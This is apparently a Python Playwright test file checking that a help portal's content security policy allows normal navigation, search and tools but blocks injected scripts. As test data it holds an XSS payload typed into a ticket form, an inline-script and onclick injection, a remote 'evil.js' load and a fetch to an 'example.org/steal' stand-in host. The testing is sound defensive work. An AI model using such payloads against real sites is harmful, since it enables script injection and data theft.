"""The content security policy in a real browser: nothing that the portal does is refused, and what an attacker does is."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page

from tests.journeys import reach_a_verdict, take_two_steps

# The event is heard in every document; the list outlives the theme's page swaps.
LISTEN = """window.refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.refused.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample} ${event.sourceFile}:${event.lineNumber}`));"""


def listen(new_page: Callable, path: str, **options: object) -> Page:
    page = new_page(**options)
    page.add_init_script(LISTEN)
    page.goto(path)
    page.wait_for_load_state("networkidle")
    return page


def refused(page: Page) -> list[str]:
    return page.evaluate("window.refused")


def test_walking_from_page_to_page_without_a_reload_breaks_nothing(new_page: Callable) -> None:
    page = listen(new_page, "")
    for name in ("Support", "Fix it yourself", "Answers"):
        page.locator(".md-tabs__link", has_text=name).first.click()
        page.wait_for_load_state("networkidle")
    assert page.evaluate("performance.getEntriesByType('navigation').length") == 1
    assert refused(page) == []


@pytest.mark.parametrize("palette", ["light", "dark"])
def test_changing_the_colours_and_searching_break_nothing(new_page: Callable, palette: str) -> None:
    page = listen(new_page, "", color_scheme=palette)
    page.locator("label.md-header__button:visible[for^=__palette]").first.click()
    page.keyboard.press("/")
    page.keyboard.type("red light")
    page.locator(".md-search-result__link").first.wait_for(state="attached")
    page.goto("search/?q=ice")
    page.wait_for_load_state("networkidle")
    assert refused(page) == []


def test_the_tools_break_nothing(new_page: Callable) -> None:
    page = listen(new_page, "troubleshooting/link-drops/")
    take_two_steps(page)
    assert refused(page) == []
    page.goto("support/report-a-problem/")
    page.locator("[data-part=paper]").wait_for()
    page.locator("ticket-composer textarea:visible").first.fill("<img src=x onerror=alert(1)> calls fail")
    page.wait_for_timeout(900)
    assert refused(page) == []
    page.goto("support/check-severity/")
    reach_a_verdict(page)
    assert refused(page) == []


def test_what_an_attacker_would_add_is_refused(new_page: Callable) -> None:
    page = listen(new_page, "", allow=("Content Security Policy", "example.org"))
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.executed = 1";
          document.body.append(script);
          const button = document.createElement("button");
          button.setAttribute("onclick", "window.executed = 2");
          document.body.append(button);
          button.click();
          const far = document.createElement("script");
          far.src = "https://example.org/evil.js";
          document.body.append(far);
        }"""
    )
    page.wait_for_timeout(500)
    assert len(refused(page)) >= 3
    assert page.evaluate("window.executed") is None
    assert all(line.startswith("script-src") for line in refused(page))
    assert page.evaluate("fetch('https://example.org/steal').then(() => 'sent', () => 'refused')") == "refused"
